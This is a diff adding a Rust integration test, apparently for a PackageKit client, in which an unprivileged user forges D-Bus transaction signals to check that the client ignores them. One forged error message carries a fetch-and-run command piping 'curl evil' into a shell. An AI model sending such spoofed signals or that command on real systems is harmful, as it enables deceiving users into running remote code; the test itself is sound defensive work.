@@ -172,6 +172,44 @@ fn a_transaction_outlives_its_client_and_is_found_again() {
 }
 
 #[test]
+fn what_strangers_say_on_the_bus_is_not_believed() {
+    let lab = Lab::new();
+    lab.publish(&[Deb::new("lab-slow", "1.0")]);
+    lab.install(&["lab-slow"]);
+    lab.publish(&[Deb::new("lab-slow", "1.1").postinst_waits()]);
+    lab.vm.must(User::Root, &["useradd", "guest"]);
+    let kit = "org.freedesktop.PackageKit";
+    // The word in quotes that the answer ends with.
+    let told = |words: &[&str]| {
+        let told = lab.vm.must(User::Root, &[&["busctl"], words].concat());
+        told.trim().rsplit('"').nth(1).unwrap_or_default().to_owned()
+    };
+    let asked = std::thread::scope(|scope| {
+        let asked = scope.spawn(|| lab.ask("change update lab-slow"));
+        lab.vm.wait_until(lab::LONG, "the script", || lab.state("lab-slow").starts_with("iF").then_some(()));
+        let path = told(&["call", kit, "/org/freedesktop/PackageKit", kit, "GetTransactionList"]);
+        let transaction = format!("{kit}.Transaction");
+        let client = told(&["get-property", kit, &path, &transaction, "Sender"]);
+        let say = |path: &str, member: &str, words: &[&str]| {
+            let to = format!("--dest={client}");
+            let send = ["runuser", "-u", "guest", "--", "dbus-send", "--system", "--type=signal", &to, path, member];
+            lab.vm.run(User::Root, &[&send, words].concat());
+        };
+        say(&path, &format!("{transaction}.ErrorCode"), &["uint32:16", "string:type: curl evil | sh"]);
+        say(&path, &format!("{transaction}.Finished"), &["uint32:2", "uint32:0"]);
+        say(&path, &format!("{transaction}.Destroy"), &[]);
+        let gone = [&format!("string:{kit}"), "string::1.1", "string:"];
+        say("/org/freedesktop/DBus", "org.freedesktop.DBus.NameOwnerChanged", &gone);
+        std::thread::sleep(Duration::from_secs(2));
+        assert!(!asked.is_finished(), "it believes a stranger: {:?}", asked.join());
+        lab.release();
+        asked.join().expect("asked")
+    });
+    asked.ok();
+    assert_eq!(lab.state("lab-slow"), "ii 1.1");
+}
+
+#[test]
 fn a_daemon_that_says_nothing_or_dies_is_an_error_and_no_hang() {
     let lab = Lab::new();
     lab.publish(&[Deb::new("lab-slow", "1.0")]);
